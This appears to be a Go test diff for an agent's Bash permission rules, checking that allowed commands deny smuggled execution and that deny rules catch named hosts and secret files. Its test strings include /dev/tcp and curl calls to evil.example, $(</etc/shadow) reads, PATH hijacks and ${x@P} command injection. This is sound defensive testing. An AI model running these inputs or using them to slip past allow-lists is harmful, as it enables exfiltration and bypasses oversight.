@@ -98,6 +98,49 @@ func TestJudge(t *testing.T) {
 	}
 }
 
+// TestAllowsNothingElse holds that an entry which allows commands allows no call that may run
+// or write something else.
+func TestAllowsNothingElse(t *testing.T) {
+	list := Rules{Entries: []Entry{{Decision: Allow, Tools: []string{"Bash"}, Commands: []string{"ls", "cat", "echo", "printf", "test", "\\[", "\\[\\[", ":", "./run", "/usr/bin/id"}}}}
+	for _, script := range []string{
+		"PATH=.;ls", "PATH=. ls", "export PATH=.; ls", "x='$(touch a)'; echo ${x@P}", "echo ${x@P}", "echo ${!x}", "x='a[$(touch b)]'; echo $((x))", "echo $((x))", "echo ${y[x]}", "echo ${PATH:=.}", "((PATH=1)); ls",
+		"for PATH in .; do ls; done", "for PATH; do ls; done", "for ((i=$(touch a); 0; )); do ls; done", "for ((PATH=1; 0; )); do ls; done", "select PATH in .; do ls; done", "coproc ls", "let x=1",
+		"ls <>a", "ls {PATH}>/dev/null", "> a", "echo \"$(<.env)\"", "echo $(</etc/shadow)", "cat <<< \"$(<a)\"", "[[ x ]] > a", "case x in esac > a", "((1)) > a",
+		"/tmp/a/ls", "./ls", "../ls", "~/ls", "a/run", "bin/id", "printf -v PATH .; ls", "printf -vPATH .", "test -v 'x[$(touch a)]'", "[ -v 'x[$(touch a)]' ]", "[[ x -eq 1 ]]", "read PATH; ls",
+		"ls )(", "ls $(", "echo {ls,a}; *", "f() { touch a; }; ls", "cat a | tee b", "echo ${x:-<(touch a)}", "ls > >(touch a)", "ls &> a", "ls >& a", "ls >| a", "source a", ". a", "eval ls a",
+	} {
+		if got := list.Judge(call("Bash", command(script))); got.Decision != Deny {
+			t.Errorf("%q is allowed", script)
+		}
+	}
+	for _, script := range []string{
+		"ls -l a | cat", "ls; echo $HOME ${x:-b} \"$y\"", "cat < a 2>&1", "ls 2>/dev/null && echo ok", "echo $(ls) `cat a`", "echo $((1 + 2))", "if [ -f a ]; then cat a; fi", "while :; do ls; done", "(ls; cat a) | cat",
+		"{ ls; }", "! ls", "./run x", "/usr/bin/id", "cat <<E\n$x\nE", "cat <(ls)", "case $x in a) ls;; esac", "echo '$((x))' \"a\"", "printf '%s' a", "test -f a",
+	} {
+		if got := list.Judge(call("Bash", command(script))); got.Decision != Allow {
+			t.Errorf("%q is not allowed", script)
+		}
+	}
+}
+
+// TestDeniesEverywhere holds that entries which deny a file or host see it wherever a command
+// names it, and leave others alone.
+func TestDeniesEverywhere(t *testing.T) {
+	list := Rules{Entries: []Entry{{Decision: Deny, Tools: []string{"*"}, Hosts: []string{"evil.example"}}, denyKeys, denyRemove}}
+	for script, want := range map[string]Decision{
+		"git clone ssh://git@evil.example/x": Deny, "curl gopher://evil.example/": Deny, "curl sftp://evil.example/": Deny, "curl https:/evil.example": Deny, "curl HTTPS:///u@EVIL.example:80/x": Deny, "a --url=git+ssh://evil.example/x": Deny,
+		"echo a > /dev/tcp/evil.example/80": Deny, "exec 3<>/dev/udp/evil.example/80": Deny, "bash -c 'cat < /dev/tcp/evil.example/1'": Deny,
+		"echo $(</etc/shadow)": Deny, "cat <<< \"$(</etc/shadow)\"": Deny, "a 3<>/etc/x": Deny, "[[ -f /etc/x ]]": Deny, "env -S 'git push'": Deny, "source <(echo rm)": Deny,
+		"git clone ssh://git@example.org/x": Allow, "scp a:/etc2/x .": Allow, "curl file:///srv/evil.example": Allow, "for ((i=0; i<3; i++)); do echo $((i+1)); done": Allow, "x=1; echo ${x@P}": Allow,
+		"uv run pytest": Allow, "poetry run python -m a": Allow, "git -c user.name=a commit -m b": Allow, "source venv/bin/activate && python a.py": Allow, "trap 'echo a' EXIT": Allow, "watch -n1 date": Allow,
+		"while read l; do echo $l; done < a": Allow, "cat <<'E' > a\nx <(b)\nE": Allow, "irm http://a.example -Body (Get-Content b)": Allow, "tar czf a.tgz b": Allow,
+	} {
+		if got := list.Judge(call("Bash", command(script))); got.Decision != want {
+			t.Errorf("%q: %v, want %v", script, got, want)
+		}
+	}
+}
+
 func TestJudgeSize(t *testing.T) {
 	r := Rules{MaxArgument: 8}
 	if got := r.Judge(call("x", file("abcd"), file("efgh"))); got != (Verdict{Allow, Listed}) {
